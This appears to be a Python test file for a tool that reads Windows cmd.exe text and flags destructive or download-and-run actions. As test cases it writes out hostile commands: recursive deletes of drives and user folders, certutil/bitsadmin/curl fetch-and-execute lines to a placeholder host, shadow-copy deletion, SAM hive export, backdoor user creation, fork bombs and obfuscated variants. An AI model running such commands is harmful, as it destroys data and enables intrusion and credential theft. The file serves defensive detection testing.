"""What cmd.exe text would do, and which texts are meant for a Windows shell."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from cases import each
from effort import EFFORT
from interlock.analysis.cmd import read_cmd
from interlock.analysis.facts import BudgetSpent, hole
from interlock.analysis.read import looks_like_windows
from recording_report import Recorder


def facts(source: str) -> list[tuple[str, ...]]:
    out = Recorder(2_000_000)
    read_cmd(source, out)
    return out.facts


@each(
    ("source", "expected"),
    [
        ("cd /d C:\\ & del *.*", ("delete", "C:\\*.*", "bulk")),
        ("pushd C:\\a & rd /s /q b", ("delete", "C:\\a\\b", "recursive")),
        ("rd /s /q %USERPROFILE%", ("delete", "~", "recursive")),
        ("rd /s /q node_modules", ("delete", "node_modules", "recursive")),
        ("rmdir x", ("delete", "x", "empty_only")),
        ("rd/s/q x", ("delete", "x", "recursive")),
        ("r^d /s /q C:\\", ("delete", "C:\\", "recursive")),
        ('"rd" /s x', ("delete", "x", "recursive")),
        ("mkdir a", ("write", "a")),
        ("robocopy a b /mov", ("move", "a")),
        ('start "title" del x', ("delete", "x")),
        ("start", ("run", "start")),
        ("for /f %i in ('echo x') do del %i", ("delete", "x")),
        ('for /f %i in ("a b") do del %i', ("delete", "a")),
        ("for /f %i in (list.txt) do del %i", ("delete", hole("i"))),
        ('for /f "usebackq" %i in (`echo y`) do del %i', ("delete", "y")),
        ("echo.del x> a.bat & a.bat", ("delete", "x")),
        ("echo del x> a.txt & copy a.txt b.bat & b.bat", ("delete", "x")),
        ("certutil -urlcache -f http://e/x a.exe & copy a.exe b.exe & b.exe", ("run_download", "http://e/x")),
        ("set A=del x^& del y\n%A%", ("delete", "y")),
        ("set A=abcdel\n%A:*abc=% x", ("delete", "x")),
        ("sqlcmd < a.sql", ("run_script", "a.sql")),
        ("del /f /s /q *.*", ("delete", "*.*", "bulk", "recursive")),
        ('erase "a b.txt"', ("delete", "a b.txt")),
        ("del a.txt,b.txt", ("delete", "b.txt")),
        ("echo a & del x", ("delete", "x")),
        ("echo a && (echo b || del x)", ("delete", "x")),
        ("set X=rd& set Y=/s /q& %X% %Y% C:\\d", ("delete", "C:\\d", "recursive")),
        ('set "C=rd /s /q"\n%C% x', ("delete", "x", "recursive")),
        ("set A=xdely\n%A:~1,3% x", ("delete", "x")),
        ("set A=dQl\n%A:Q=e% x", ("delete", "x")),
        ("set P=x\ndel !P!", ("delete", "x")),
        ("del %SystemRoot%\\x", ("delete", "C:\\Windows\\x")),
        ("del %TEMP%\\x", ("delete", "~\\AppData\\Local\\Temp\\x")),
        ("del %NOWHERE%\\x", ("delete", hole("NOWHERE") + "\\x")),
        ("del %1", ("delete", hole("1"))),
        ("for %i in (a b) do rd /s /q %i", ("delete", "b", "recursive")),
        ('for /d %%i in (*) do rd /s /q "%%i"', ("delete", "*", "bulk", "recursive")),
        ("for /r C:\\logs %i in (*.log) do del %i", ("delete", "C:\\logs\\*.log", "bulk", "recursive")),
        ("for /f %i in ('dir /b') do del %i", ("delete", hole("i"))),
        ("for %%i in (a) do (\n echo hi\n del %%~fi\n)", ("delete", "a")),
        ("if exist x (del x) else (del y)", ("delete", "y")),
        ('if not "%A%"=="b" del x', ("delete", "x")),
        ("if defined P del x", ("delete", "x")),
        ("if 1 EQU 2 (echo a) else del y", ("delete", "y")),
        ("@del x", ("delete", "x")),
        ("del ^\n x", ("delete", "x")),
        ("cmd /c rd /s /q x", ("delete", "x", "recursive")),
        ('cmd.exe /d /c "rd /s /q "C:\\a b""', ("delete", "C:\\a b", "recursive")),
        ("%COMSPEC% /c del x", ("delete", "x")),
        ("call del x", ("delete", "x")),
        ("start /b cmd /c del x", ("delete", "x")),
        ('forfiles /p C:\\l /s /m *.log /c "cmd /c del @path"', ("delete", "C:\\l\\*.log", "bulk", "recursive")),
        ("echo rd /s /q C:\\d > a.bat & call a.bat", ("delete", "C:\\d", "recursive")),
        ("robocopy empty target /MIR", ("delete", "target", "bulk", "recursive")),
        ("type nul > x", ("truncate", "x")),
        ("copy /y nul x", ("truncate", "x")),
        ("break>x", ("truncate", "x")),
        ("echo a > x", ("write", "x")),
        ("echo a >> x", ("append", "x")),
        ("(echo a & echo b) > x", ("write", "x")),
        ("copy a b", ("write", "b")),
        ("move /y a b", ("overwrite", "b")),
        ("ren a b", ("move", "a")),
        ("format D: /q /y", ("run", "format", "D:", "/q", "/y")),
        ("format /?", ("run", "format", "/?")),
        ("del /?", ("run", "del", "/?")),
        ("C:\\Windows\\System32\\VSSADMIN.exe delete shadows /all", ("run", "vssadmin", "delete", "shadows", "/all")),
        ("net user hax P@ss /add && net stop x", ("run", "net", "user", "hax", "P@ss", "/add")),
        ('powershell -NoP -c "Remove-Item x"', ("run", "powershell", "-NoP", "-c", "Remove-Item x")),
        ("move /y C:\\docs nul", ("delete", "C:\\docs", "recursive")),
        ("ren C:\\docs NUL:", ("delete", "C:\\docs", "recursive")),
        ("bitsadmin /transfer j http://e/p.exe C:\\p.exe & start C:\\p.exe", ("run_download", "http://e/p.exe")),
        ("certutil -urlcache -split -f http://e/x.exe x.exe && x", ("run_download", "http://e/x.exe")),
        ("curl -o a.bat http://e/a & call a.bat", ("run_download", "http://e/a")),
        ('powershell -c "iwr http://e/a -OutFile a.exe" & a.exe', ("run_download", "http://e/a")),
        ("%0|%0", ("fork_bomb", "")),
        (":a\nstart %0\ngoto a", ("fork_bomb", "")),
        ("%NOWHERE% x", ("unreadable", "command")),
        ("(del x", ("unreadable", "syntax")),
        ("x |", ("unreadable", "syntax")),
    ],
)
def test_what_a_text_does_is_told(source: str, expected: tuple[str, ...]) -> None:
    assert expected in facts(source)


@each(
    "source",
    [
        "echo del /s /q C:\\",
        "rem del /s C:\\",
        ":: rd /s /q C:\\",
        "@echo off\nsetlocal\ntitle del x\nexit /b 0",
        "echo a ^& del x",
        "echo a > nul 2>&1",
        'echo "a & del x"',
        "set X=del",
        "goto end\n:end",
        "format",
        "",
        "&" * 1000,
    ],
)
def test_what_only_looks_harmful_raises_nothing(source: str) -> None:
    assert [fact for fact in facts(source) if fact[0] != "run"] == []


def test_words_in_quotes_stay_one_word() -> None:
    assert facts('git commit -m "rd /s & del x"') == [("run", "git", "commit", "-m", "rd /s & del x")]


HOSTILE = {
    "ampersands": "&" * 100_000,
    "parentheses": "(" * 100_000,
    "quote": '"' + "a" * 100_000,
    "carets": "^" * 100_000,
    "percents": "%" * 100_000,
    "ifs": "if a==a " * 5_000 + "x",
    "loops": "for %i in (" + "a " * 60 + ") do " + "for %j in (" + "b " * 60 + ") do " + "del %i%j",
    "growth": "set A=aaaaaaaaaa\n" + "set A=%A%%A%\n" * 60 + "%A%",
    "itself": "echo call a.bat > a.bat & a.bat",
    "nested": "cmd /c " * 3_000 + "del x",
    "redirections": ">" * 50_000,
    "pipes": "a|" * 20_000 + "a",
}


@each("name", HOSTILE)
def test_hostile_text_ends_in_an_answer_or_with_the_budget(name: str) -> None:
    try:
        assert isinstance(facts(HOSTILE[name]), list)
    except BudgetSpent:
        return


@given(st.text(alphabet="()%!^&|<>\"'@:;,=~/\\ \nabdelforincif01*", max_size=60))
@settings(max_examples=150 * EFFORT, deadline=None)
def test_no_text_breaks_the_reader(source: str) -> None:
    facts(source)


WINDOWS, POSIX = "C:\\Users\\me\\repo", "/home/me/repo"


@each(
    ("text", "on_windows", "on_posix"),
    [
        ("Remove-Item x -Recurse", "powershell", "powershell"),
        ("Format-Volume -DriveLetter D", "powershell", "powershell"),
        ("Get-ChildItem | Remove-Item", "powershell", "powershell"),
        ("rm -r -fo x", "powershell", ""),
        ("$env:FOO = 'x'", "powershell", ""),
        ("[IO.File]::Delete('x')", "powershell", ""),
        ("gci *.log | % { ri $_ }", "powershell", ""),
        ("cd C:\\x; rd y", "powershell", ""),
        ("rd /s /q x", "cmd", "cmd"),
        ("del /q x", "cmd", "cmd"),
        ("format D: /q", "cmd", "cmd"),
        ("format /?", "cmd", "cmd"),
        ("echo %PATH%", "cmd", ""),
        ("vssadmin delete shadows /all", "cmd", "cmd"),
        ("reg save HKLM\\SAM x.hiv", "cmd", "cmd"),
        ("reg query HKLM\\Software; rm -rf x", "cmd", ""),
        ("Remove-AcmeTenant -Name x", "powershell", "powershell"),
        ("Acme.Tools\\Remove-AcmeTenant x", "powershell", "powershell"),
        ("Get-started x", "powershell", ""),
        ("del /q x; rm -rf y", "cmd", "powershell"),
        ("format /?; rm -rf y", "cmd", ""),
        ("net user x y /add", "cmd", ""),
        ("git status", "cmd", ""),
        ('git commit -m "use Remove-Item -Recurse"', "cmd", ""),
        ('powershell -c "Remove-Item x -Recurse"', "cmd", ""),
        ("for f in *; do rm $f; done", "", ""),
        ("bash -c 'rm -rf /; x'", "", ""),
        ("cat <<EOF > x\nEOF", "", ""),
        ("apt-get install x", "cmd", ""),
        ("format-code --all", "powershell", ""),
        ("npm install && rm -rf dist", "cmd", ""),
        ("robocopy C:\\empty D:\\Backups /MIR", "cmd", "cmd"),
        ("gci C:\\site\\uploads -r | ri -fo -r", "powershell", "powershell"),
        ("ri Array#each", "powershell", ""),
    ],
)
def test_which_shell_a_text_is_meant_for(text: str, on_windows: str, on_posix: str) -> None:
    assert looks_like_windows(text, WINDOWS) == on_windows
    assert looks_like_windows(text, POSIX) == on_posix
